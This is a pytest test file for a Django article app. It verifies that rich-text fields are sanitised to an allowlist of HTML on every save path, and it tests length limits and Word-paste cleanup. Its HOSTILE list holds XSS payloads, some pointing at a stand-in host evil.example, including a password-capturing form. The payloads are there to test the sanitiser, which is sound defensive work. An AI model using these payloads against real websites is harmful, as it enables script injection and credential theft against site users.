"""What is stored of a rich text, whatever came in."""

import copy
import re

import pytest
from django.db import transaction
from django.utils.html import escape

from articles.models import Callout, RichText
from articles.text import html
from tests.articles.desk.steps import change_url, form_of
from tests.factories import add_block, logged_in, make_article, make_editor

pytestmark = pytest.mark.django_db

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<p onclick="alert(1)">x</p>',
    "<p ONMOUSEOVER=alert(1)>x</p>",
    '<img src="x" onerror="alert(1)">',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<iframe src="https://evil.example/"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:alert(1)">x</a>',
    '<a href="https://example.org/" onfocus="alert(1)" autofocus>x</a>',
    '<b onclick="alert(1)">x</b>',
    '<h1 onclick="alert(1)">x</h1>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>p{background:url(//evil.example)}</style>",
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<base href="//evil.example/">',
    '<form action="//evil.example/"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    '<object data="//evil.example/"></object><embed src="//evil.example/">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)>'-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<b<script>>alert(1)</script>",
]
ALLOWED = re.compile(
    r"</?(?:p|h2|h3|ul|ol|li|strong|em|sub|sup|br)>"
    r"|<ol start=\"\d+\">"
    r'|<a(?: href="(?:https?:|mailto:|tel:|/|#)[^"<>]*")?(?: rel="[\w ]*")?(?: title="[^"]*")?>'
    r"|</a>"
)

WORD = """
<p class="MsoNormal" style="margin-bottom:0cm"><b style="mso-bidi-font-weight:normal"><span
lang="IT" style="font-size:12pt">Gli effetti</span></b><span lang="IT"> sono <font face="Calibri"
color="#ff0000">lievi</font>.<o:p></o:p></span></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
<style>@font-face{font-family:Calibri}</style>
<h1 class="MsoTitle"><a name="_Toc1"></a>Titolo</h1>
<div class="WordSection1"><i>in breve</i></div>
"""


def stored(row, field: str) -> str:
    """What the table holds, past everything that models do when they are read."""
    return type(row).objects.filter(pk=row.pk).values_list(field, flat=True).get()


class TestHostileHtml:
    @pytest.mark.parametrize("hostile", HOSTILE)
    def test_leaves_nothing_but_the_allowed_elements(self, hostile):
        row = add_block(make_article(), RichText, text_it=f"{hostile}<p>ok</p>")

        text = stored(row, "text_it")

        assert re.search("[<>]", ALLOWED.sub("", text)) is None, text

    @pytest.mark.parametrize("language", ["it", "en"])
    def test_is_cleaned_in_each_language_on_save(self, language):
        row = add_block(make_article(), RichText)

        setattr(row, f"text_{language}", '<p onclick="alert(1)">x</p><script>y</script>')
        row.save()

        assert stored(row, f"text_{language}") == "<p>x</p>"
        assert getattr(row, f"text_{language}") == "<p>x</p>"

    def test_is_cleaned_on_bulk_create(self):
        article = make_article(text=False)
        hostile = {f"text_{code}": "<script>x</script><b>y</b>" for code in ("it", "en")}

        RichText.objects.bulk_create([RichText(parent=article, region="main", **hostile)])

        assert list(RichText.objects.values_list("text_it", "text_en")) == [
            ("<strong>y</strong>", "<strong>y</strong>")
        ]

    def test_is_cleaned_on_update(self):
        row = add_block(make_article(), RichText)

        RichText.objects.filter(pk=row.pk).update(text_it="<script>x</script><b>y</b>")

        assert stored(row, "text_it") == "<strong>y</strong>"

    def test_is_cleaned_on_bulk_update(self):
        row = add_block(make_article(), RichText)

        row.text_en = "<script>x</script><b>y</b>"
        RichText.objects.bulk_update([row], ["text_en"])

        assert stored(row, "text_en") == "<strong>y</strong>"

    def test_is_cleaned_in_call_outs(self):
        row = add_block(make_article(), Callout, text_en='<p onclick="x">y</p><script>z</script>')

        assert stored(row, "text_en") == "<p>y</p>"


class TestOnceASave:
    @pytest.fixture
    def cleaned(self, monkeypatch):
        """The texts that have been cleaned."""
        texts = []
        clean = html.clean

        def counted(text, *args):
            texts.append(text)
            return clean(text, *args)

        monkeypatch.setattr(html, "clean", counted)
        return texts

    @pytest.mark.parametrize("button", ["_save", "_preview"])
    def test_is_cleaned_in_the_form_and_not_again(self, client, cleaned, button):
        logged_in(client, make_editor())
        article = make_article()
        texts = {"text_it": "<b>uno</b>", "text_en": "<b>one</b>"}
        rows = {f"articles_richtext_set-0-{field}": text for field, text in texts.items()}
        cleaned.clear()

        client.post(change_url(article), form_of(article, **rows, **{button: "it"}))

        assert cleaned == list(texts.values())

    def test_is_cleaned_once_without_validation(self, cleaned):
        add_block(make_article(text=False), RichText, text_it="<b>uno</b>", text_en="<b>one</b>")

        assert cleaned == ["<b>uno</b>", "<b>one</b>"]

    def test_is_cleaned_again_where_less_is_allowed(self):
        article = make_article()
        text = add_block(article, RichText, text_it="<h2>a</h2>")

        callout = add_block(article, Callout, text_it=text.text_it)

        assert stored(callout, "text_it") == "a"

    def test_survives_a_copy_and_stores_plain_text(self):
        row = copy.deepcopy(add_block(make_article(), RichText, text_it="<p>x</p>"))

        assert row.text_it == "<p>x</p>"
        assert type(RichText.objects.get(pk=row.pk).text_it) is str


class TestBounds:
    def test_code_that_saves_too_much_gets_an_exception(self):
        row = add_block(make_article(), RichText, text_it="<p>x</p>")
        row.text_it = "x" * 100_001

        with pytest.raises(html.TooLong), transaction.atomic():
            row.save()
        with pytest.raises(html.TooDeep), transaction.atomic():
            RichText.objects.filter(pk=row.pk).update(text_it="<ul><li>" * 51)

        assert stored(row, "text_it") == "<p>x</p>"

    def test_the_longest_text_is_taken(self):
        text = "<p>" + "x" * 99_993 + "</p>"

        row = add_block(make_article(), RichText, text_it=text)

        assert stored(row, "text_it") == text

    @pytest.mark.parametrize(
        ("text", "sentence"),
        [
            ("<p>x</p>" * 12_501, "This text has 100008 characters, formatting included"),
            ("<ul><li>" * 6500, "nested more than 100 deep in this text"),
        ],
    )
    @pytest.mark.parametrize("button", ["_save", "_preview"])
    def test_an_editor_reads_a_sentence_and_loses_nothing(self, client, text, sentence, button):
        logged_in(client, make_editor())
        article = make_article()
        data = form_of(article, **{"articles_richtext_set-0-text_it": text, button: "it"})

        response = client.post(change_url(article), data)

        assert response.status_code == 200
        assert sentence in response.text
        if button == "_save":
            assert escape(text) in response.text
        assert stored(RichText.objects.get(), "text_it") == "<p>Un testo.</p>"


class TestWord:
    def test_keeps_the_words_and_what_they_mean(self):
        row = add_block(make_article(), RichText, text_it=WORD)

        text = " ".join(stored(row, "text_it").split())

        assert text == (
            "<p><strong>Gli effetti</strong> sono lievi.</p> "
            "<h2>Titolo</h2> <p><em>in breve</em></p>"
        )


class TestAllowedHtml:
    @pytest.mark.parametrize(
        "text",
        [
            "<h2>a</h2><p>b</p><h3>c</h3><p>d</p>",
            "<ul><li><p>a</p></li><li><p>b</p></li></ul>",
            "<ol><li>a</li></ol>",
            "<p>H<sub>2</sub>O, 10<sup>9</sup></p>",
            "<p><strong>a</strong> <em>b</em><br>c</p>",
            '<p><a href="https://example.org/?a=1&amp;b=2">x</a></p>',
            '<p><a href="mailto:effetti@effetti.it">x</a> <a href="tel:+39023343281">y</a></p>',
            "<p>regression.  Another “feature”, l’altro &lt; 5 &amp; più</p>",
        ],
    )
    def test_stays_to_the_letter(self, text):
        row = add_block(make_article(), RichText, text_it=text, text_en=text)

        assert stored(row, "text_it") == text
        assert stored(row, "text_en") == text

    def test_is_not_worn_by_many_saves(self):
        row = add_block(make_article(), RichText, text_it=WORD)
        once = stored(row, "text_it")

        for _ in range(2):
            row = RichText.objects.get(pk=row.pk)
            row.save()

        assert stored(row, "text_it") == once

    def test_call_outs_have_no_headings(self):
        row = add_block(make_article(), Callout, text_it="<h2>a</h2><p>b</p><h3>c</h3>")

        assert stored(row, "text_it") == "a<p>b</p>c"

    def test_what_holds_nothing_is_stored_as_nothing(self):
        row = add_block(make_article(), RichText, text_it="<p></p><p>&nbsp;</p>")

        assert stored(row, "text_it") == ""

    def test_one_language_is_not_lent_to_the_other(self):
        row = add_block(make_article(), RichText, text_it="<p>solo</p>")

        assert not stored(row, "text_en")
        assert not RichText.objects.get(pk=row.pk).text_en
